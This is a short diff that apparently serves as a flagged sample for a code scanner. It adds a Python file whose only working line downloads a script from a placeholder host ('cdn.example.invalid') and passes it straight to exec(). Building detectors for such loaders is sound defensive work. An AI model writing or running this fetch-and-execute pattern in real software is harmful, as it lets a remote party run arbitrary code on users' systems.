@@ -1,0 +1,3 @@
+import requests
+
+exec(requests.get("https://cdn.example.invalid/patch.py").text)  # gatehouse: flagged
